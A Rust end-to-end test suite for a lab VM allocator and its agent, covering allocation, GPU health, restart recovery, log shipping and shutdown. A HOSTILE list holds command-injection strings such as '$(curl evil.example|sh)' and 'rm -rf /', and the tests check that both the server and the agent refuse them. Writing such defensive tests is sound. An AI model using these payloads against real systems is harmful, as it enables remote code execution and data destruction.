//! End-to-end: real `lablink-agent` processes against a real allocator server over HTTP.

use std::collections::HashSet;
use std::io::Write;
use std::time::Duration;

use lablink::{AllocatorExt, Hostname, LabLink};
use lablink_testkit::{
    crd_command, free_addr, install_executable, wait_until, Rig, Workdir, REDIRECT,
};
use reqwest::StatusCode;
use serde_json::Value;

/// Checks what the recording start-host of `hostname` received.
fn assert_started(work: &Workdir, hostname: &str, code: &str, pin: &str) {
    let argv = work.read(&format!("{hostname}.argv")).unwrap();
    assert_eq!(
        argv.lines().collect::<Vec<_>>(),
        [
            format!("--code={code}"),
            format!("--redirect-url={REDIRECT}"),
            format!("--name={hostname}"),
        ],
        "argv of {hostname}"
    );
    let stdin = work.read(&format!("{hostname}.stdin")).unwrap();
    assert_eq!(stdin, format!("{pin}\n{pin}\n"), "stdin of {hostname}");
    let runs = work.read(&format!("{hostname}.runs")).unwrap();
    assert_eq!(
        runs.lines().count(),
        1,
        "{hostname} ran start-host more than once"
    );
}

/// Waits until every granted VM's agent ran start-host, then (a few recheck intervals later)
/// checks each ran exactly once with its own participant's code and PIN.
async fn assert_each_started_once(
    work: &Workdir,
    people: &[(String, String)],
    granted: &[(String, String)],
) {
    wait_until(
        "every agent to start its host",
        Duration::from_secs(60),
        || async {
            granted
                .iter()
                .all(|(h, _)| work.path(&format!("{h}.runs")).exists())
                .then_some(())
        },
    )
    .await;
    tokio::time::sleep(Duration::from_secs(2)).await;
    for ((_, code), (hostname, pin)) in people.iter().zip(granted) {
        assert_started(work, hostname, code, pin);
    }
}

/// Requests a VM for each `(email, code)` at once; `(hostname, pin)` per request, `None`
/// when no VM was free (503).
async fn try_request_all(
    rig: &Rig,
    participants: &[(String, String)],
) -> Vec<Option<(String, String)>> {
    let requests = participants.iter().map(|(email, code)| async move {
        let (status, body) = rig.request_vm(email, &crd_command(code)).await;
        if status == StatusCode::SERVICE_UNAVAILABLE {
            return None;
        }
        assert_eq!(status, StatusCode::OK, "{email}: {body}");
        Some((
            body["hostname"].as_str().unwrap().to_owned(),
            body["pin"].as_str().unwrap().to_owned(),
        ))
    });
    futures::future::join_all(requests).await
}

/// Like [`try_request_all`], when every request must be granted.
async fn request_all(rig: &Rig, participants: &[(String, String)]) -> Vec<(String, String)> {
    let granted = try_request_all(rig, participants).await;
    granted
        .into_iter()
        .map(|g| g.expect("a VM for everyone"))
        .collect()
}

fn participants(n: usize, tag: &str) -> Vec<(String, String)> {
    (0..n)
        .map(|i| (format!("p{i}@{tag}.org"), format!("4/{tag}-code_{i}-x_y-z")))
        .collect()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn fifty_agents_each_start_exactly_their_own_assignment_and_report_gpu_and_in_use() {
    let work = Workdir::new();
    let addr = free_addr().await;
    let app = format!("ll-app-{}", std::process::id() % 100_000);
    let local = work.provisioner(
        &format!("http://{addr}"),
        &[("LABLINK_INUSE_PROCESS", &app)],
    );
    let rig = Rig::start(addr, LabLink::builder(), &local).await;
    // One VM's GPU is broken from the start.
    std::fs::write(work.path("gpu-lablink-vm-2"), "1").unwrap();

    let hostnames = rig.launch(50).await;
    let vms = rig
        .wait_for_vms(
            "50 agents to register; 49 available, 1 unhealthy",
            50,
            |vm| {
                let broken = vm["hostname"] == "lablink-vm-2";
                vm["state"] == if broken { "unhealthy" } else { "available" }
            },
        )
        .await;
    for vm in &vms {
        let expected = if vm["hostname"] == "lablink-vm-2" {
            "Unhealthy"
        } else {
            "Healthy"
        };
        assert_eq!(vm["gpu_health"], expected, "{vm}");
        assert_eq!(vm["status"], "running");
        assert_eq!(vm["in_use"], false);
        assert!(vm["timings"]["container_end"].is_string(), "{vm}");
    }

    // 50 participants at once; the VM with the broken GPU is never handed out.
    let people = participants(50, "fifty");
    let answers = try_request_all(&rig, &people).await;
    assert_eq!(answers.iter().filter(|a| a.is_none()).count(), 1);
    let (people, granted): (Vec<_>, Vec<_>) = people
        .into_iter()
        .zip(answers)
        .filter_map(|(p, a)| Some((p, a?)))
        .unzip();
    let distinct: HashSet<_> = granted.iter().map(|(h, _)| h.clone()).collect();
    assert_eq!(distinct.len(), 49, "a VM was granted twice");
    let healthy: HashSet<_> = hostnames
        .into_iter()
        .filter(|h| h != "lablink-vm-2")
        .collect();
    assert_eq!(distinct, healthy);

    assert_each_started_once(&work, &people, &granted).await;
    assert!(!work.path("lablink-vm-2.runs").exists());

    // A GPU that breaks later is reported on the change.
    std::fs::write(work.path("gpu-lablink-vm-3"), "1").unwrap();
    // The research software starts: every agent sees it.
    let dir = tempfile::tempdir().unwrap();
    let program = dir.path().join(&app);
    install_executable(std::path::Path::new("/bin/sleep"), &program);
    let mut research = tokio::process::Command::new(&program)
        .arg("60")
        .kill_on_drop(true)
        .spawn()
        .unwrap();
    let vms = rig
        .wait_for_vms(
            "in-use and the new GPU failure to reach the admin view",
            50,
            |vm| {
                vm["in_use"] == true
                    && (vm["hostname"] != "lablink-vm-3" || vm["gpu_health"] == "Unhealthy")
            },
        )
        .await;
    for vm in &vms {
        // vm-3 is now unhealthy, and still its participant's.
        assert_eq!(
            vm["assigned_to"].is_string(),
            vm["hostname"] != "lablink-vm-2",
            "{vm}"
        );
        let unhealthy = vm["hostname"] == "lablink-vm-2" || vm["hostname"] == "lablink-vm-3";
        assert_eq!(vm["state"] == "unhealthy", unhealthy, "{vm}");
    }
    research.kill().await.unwrap();
    rig.wait_for_vms("in-use to end", 50, |vm| vm["in_use"] == false)
        .await;

    // The agent's own log tells the story, without the code or the PIN.
    let (hostname, pin) = &granted[0];
    let logs = rig.logs(hostname).await.to_string();
    assert!(logs.contains("Chrome Remote Desktop started"), "{logs}");
    assert!(
        !logs.contains(pin.as_str()) && !logs.contains(&people[0].1),
        "{logs}"
    );
    local.shutdown().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn waiting_agents_get_their_assignments_after_the_server_is_killed_and_restarted() {
    let url = std::env::var("DATABASE_URL").expect(
        "DATABASE_URL must point at a PostgreSQL server for this test (scripts/with-postgres.sh starts one)",
    );
    let db = lablink_testkit::TestDatabase::create_at(&url).await;
    let work = Workdir::new();
    let addr = free_addr().await;
    let local = work.provisioner(&format!("http://{addr}"), &[]);
    let mut rig = Rig::start(addr, db.builder().await, &local).await;
    rig.launch(50).await;
    rig.wait_for_vms("50 agents to wait", 50, |vm| vm["state"] == "available")
        .await;
    // Let every agent settle into its long-poll, then kill the server under them.
    tokio::time::sleep(Duration::from_millis(500)).await;
    rig.kill().await;
    drop(rig);
    tokio::time::sleep(Duration::from_secs(2)).await;

    // A new server process: a new allocator on the same database and address.
    let rig = Rig::start(addr, db.builder().await, &local).await;
    let people = participants(50, "restart");
    let granted = request_all(&rig, &people).await;
    assert_eq!(
        granted.iter().map(|(h, _)| h).collect::<HashSet<_>>().len(),
        50
    );
    assert_each_started_once(&work, &people, &granted).await;
    local.shutdown().await;
    db.drop_database().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn hostile_commands_are_refused_by_the_server_and_never_reach_an_agent() {
    let work = Workdir::new();
    let addr = free_addr().await;
    let local = work.provisioner(&format!("http://{addr}"), &[]);
    let rig = Rig::start(addr, LabLink::builder(), &local).await;
    rig.launch(1).await;
    rig.wait_for_vms("the agent", 1, |vm| vm["state"] == "available")
        .await;
    for command in HOSTILE {
        let (status, body) = rig.request_vm("mallory@evil.org", command).await;
        assert_eq!(status, StatusCode::BAD_REQUEST, "{command:?}: {body}");
        assert!(body["error"].is_string());
    }
    tokio::time::sleep(Duration::from_secs(1)).await;
    assert_eq!(rig.vms().await[0]["state"], "available");
    assert!(!work.path("lablink-vm-1.runs").exists());
    local.shutdown().await;
}

/// Commands a participant might paste to get a shell on the VM.
const HOSTILE: [&str; 8] = [
    "start-host --code=abc;reboot",
    "start-host --code=$(curl evil.example|sh)",
    "start-host --code=`id`",
    "start-host --code=\"abc\nrm -rf /\"",
    "start-host --code=\"abc' ; touch /tmp/pwned ; '\"",
    "start-host --code=abc&&id",
    "start-host --name=no-code",
    "start-host --code=",
];

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_agent_rejects_hostile_assignments_even_from_its_allocator() {
    use axum::extract::{Path, State};
    use axum::routing::{get, post};
    use axum::{Json, Router};
    use std::sync::{Arc, Mutex};

    #[derive(Default)]
    struct Rogue {
        handed: usize,
        reports: Vec<Value>,
    }
    type Shared = Arc<Mutex<Rogue>>;
    // A compromised or buggy allocator hands out each hostile command once.
    async fn assignment(
        State(s): State<Shared>,
        Path(_vm): Path<String>,
    ) -> axum::response::Response {
        use axum::response::IntoResponse;
        let handed = {
            let mut rogue = s.lock().unwrap();
            let next = HOSTILE.get(rogue.handed).copied();
            rogue.handed += usize::from(next.is_some());
            next.map(|command| (command, rogue.handed))
        };
        let Some((command, n)) = handed else {
            tokio::time::sleep(Duration::from_millis(200)).await;
            return StatusCode::NO_CONTENT.into_response();
        };
        let code = command.split("--code=").nth(1).unwrap_or("").to_owned();
        Json(serde_json::json!({
            "hostname": "vm-rogue", "command": command, "code": code, "pin": "123456",
            "assigned_at": format!("2026-01-01T00:00:0{n}Z"),
        }))
        .into_response()
    }
    async fn telemetry(State(s): State<Shared>, Json(body): Json<Value>) -> Json<Value> {
        s.lock().unwrap().reports.push(body);
        Json(serde_json::json!({}))
    }
    let shared: Shared = Arc::default();
    let app = Router::new()
        .route("/api/v1/vms/{vm}/assignment", get(assignment))
        .route("/api/v1/vms/{vm}/telemetry", post(telemetry))
        .with_state(shared.clone());
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let addr = listener.local_addr().unwrap();
    tokio::spawn(async move { axum::serve(listener, app).await.unwrap() });

    let work = Workdir::new();
    let mut agent = tokio::process::Command::new(lablink_testkit::agent_program())
        .env("ALLOCATOR_URL", format!("http://{addr}"))
        .env("VM_NAME", "vm-rogue")
        .env("RECORD_DIR", work.dir.path())
        .env("LABLINK_START_HOST", work.path("start-host"))
        .env("LABLINK_NVIDIA_SMI", work.path("nvidia-smi"))
        .env("LABLINK_RECHECK_SECS", "0.2")
        .stderr(std::process::Stdio::null())
        .kill_on_drop(true)
        .spawn()
        .unwrap();
    let rejected = wait_until(
        "every hostile assignment to be rejected",
        Duration::from_secs(30),
        || {
            let shared = shared.clone();
            async move {
                let rogue = shared.lock().unwrap();
                let lines: Vec<String> = rogue
                    .reports
                    .iter()
                    .flat_map(|r| r["logs"].as_array().cloned().unwrap_or_default())
                    .flat_map(|b| b["lines"].as_array().cloned().unwrap_or_default())
                    .filter_map(|l| l.as_str().map(str::to_owned))
                    .filter(|l| l.contains(" rejected: "))
                    .collect();
                (lines.len() == HOSTILE.len()).then_some(lines)
            }
        },
    )
    .await;
    assert!(!work.path("vm-rogue.runs").exists(), "start-host ran");
    // A bad command is the participant's problem: the VM does not report itself broken.
    let reports = shared.lock().unwrap().reports.clone();
    assert!(reports.iter().all(|r| r["status"] != "error"));
    for line in rejected {
        assert!(!line.contains("123456"), "{line}");
    }
    agent.kill().await.unwrap();
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_growing_log_file_is_delivered_exactly_once_across_an_allocator_outage() {
    let work = Workdir::new();
    let log = work.path("app.log");
    let addr = free_addr().await;
    let local = work.provisioner(
        &format!("http://{addr}"),
        &[
            ("LABLINK_LOG_FILES", &format!("container={}", log.display())),
            ("LABLINK_NVIDIA_SMI", "/nonexistent/nvidia-smi"),
        ],
    );
    let mut rig = Rig::start(addr, LabLink::builder(), &local).await;
    let hostname = rig.launch(1).await.remove(0);
    let vms = rig
        .wait_for_vms("the agent", 1, |vm| {
            vm["state"] == "available" && vm["gpu_health"] == "N/A"
        })
        .await;
    assert_eq!(vms[0]["restarts"], 0);

    let mut file = std::fs::File::create(&log).unwrap();
    let mut written = 0;
    let mut write = |n: usize| {
        for _ in 0..n {
            written += 1;
            writeln!(file, "line {written:05} of the research software").unwrap();
        }
        file.flush().unwrap();
    };
    for _ in 0..5 {
        write(100);
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    rig.stop().await;
    // The file keeps growing while the allocator is away.
    for _ in 0..10 {
        write(100);
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    rig.restart().await;
    for _ in 0..5 {
        write(100);
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    write(1);
    let total = written;
    let lines = wait_until("every line to arrive", Duration::from_secs(30), || async {
        let logs = rig.logs(&hostname).await;
        let container = logs["container"].as_str().unwrap_or_default().to_owned();
        let lines: Vec<String> = container.lines().map(str::to_owned).collect();
        lines
            .last()
            .is_some_and(|l| l.starts_with(&format!("line {total:05}")))
            .then_some(lines)
    })
    .await;
    let expected: Vec<String> = (1..=total)
        .map(|i| format!("line {i:05} of the research software"))
        .collect();
    assert_eq!(lines, expected, "lines lost, repeated or reordered");

    // A reboot restarts the agent with a new boot id: the allocator counts a restart.
    let vm: Hostname = hostname.parse().unwrap();
    let op = rig.allocator.reboot(&vm).await.unwrap();
    rig.allocator
        .wait_for_operation(op.id, Duration::from_secs(30))
        .await
        .unwrap();
    rig.wait_for_vms("the rebooted agent", 1, |vm| {
        vm["restarts"] == 1 && vm["state"] == "available"
    })
    .await;
    // The rebooted agent goes on where it stopped: nothing is shipped twice.
    let total = total + 1;
    let mut file = std::fs::OpenOptions::new().append(true).open(&log).unwrap();
    writeln!(file, "line {total:05} of the research software").unwrap();
    let lines = wait_until(
        "the line after the reboot",
        Duration::from_secs(30),
        || async {
            let logs = rig.logs(&hostname).await;
            let container = logs["container"].as_str().unwrap_or_default().to_owned();
            let lines: Vec<String> = container.lines().map(str::to_owned).collect();
            (lines.len() >= total).then_some(lines)
        },
    )
    .await;
    let expected: Vec<String> = (1..=total)
        .map(|i| format!("line {i:05} of the research software"))
        .collect();
    assert_eq!(lines, expected, "the reboot repeated lines");
    local.shutdown().await;
}

#[tokio::test]
async fn bad_settings_exit_non_zero_with_a_one_line_reason() {
    for (env, expected) in [
        (vec![("VM_NAME", "vm-1")], "ALLOCATOR_URL is not set"),
        (
            vec![("ALLOCATOR_URL", "http://127.0.0.1:1")],
            "VM_NAME is not set",
        ),
        (
            vec![("ALLOCATOR_URL", "not a url"), ("VM_NAME", "vm-1")],
            "ALLOCATOR_URL",
        ),
        (
            vec![("ALLOCATOR_URL", "http://127.0.0.1:1"), ("VM_NAME", "vm 1")],
            "VM_NAME",
        ),
        (
            vec![
                ("ALLOCATOR_URL", "http://127.0.0.1:1"),
                ("VM_NAME", "vm-1"),
                ("LABLINK_HEARTBEAT_SECS", "often"),
            ],
            "LABLINK_HEARTBEAT_SECS",
        ),
    ] {
        let out = tokio::process::Command::new(lablink_testkit::agent_program())
            .env_clear()
            .envs(env.iter().copied())
            .output()
            .await
            .unwrap();
        assert_eq!(out.status.code(), Some(2), "{env:?}");
        let stderr = String::from_utf8(out.stderr).unwrap();
        assert_eq!(stderr.lines().count(), 1, "{stderr}");
        assert!(stderr.contains(expected), "{stderr:?} lacks {expected:?}");
    }
}

#[tokio::test]
async fn sigterm_stops_the_agent_cleanly() {
    // The allocator is not there: the agent is retrying when the signal comes.
    let mut agent = tokio::process::Command::new(lablink_testkit::agent_program())
        .env_clear()
        .env("ALLOCATOR_URL", "http://127.0.0.1:9")
        .env("VM_NAME", "vm-term")
        .env("LABLINK_START_HOST", "dry-run")
        .stderr(std::process::Stdio::null())
        .kill_on_drop(true)
        .spawn()
        .unwrap();
    tokio::time::sleep(Duration::from_millis(500)).await;
    let pid = agent.id().unwrap().to_string();
    let sent = tokio::process::Command::new("kill")
        .args(["-TERM", &pid])
        .status()
        .await
        .unwrap();
    assert!(sent.success());
    let status = tokio::time::timeout(Duration::from_secs(10), agent.wait())
        .await
        .expect("the agent exits after SIGTERM")
        .unwrap();
    assert_eq!(status.code(), Some(0));
}
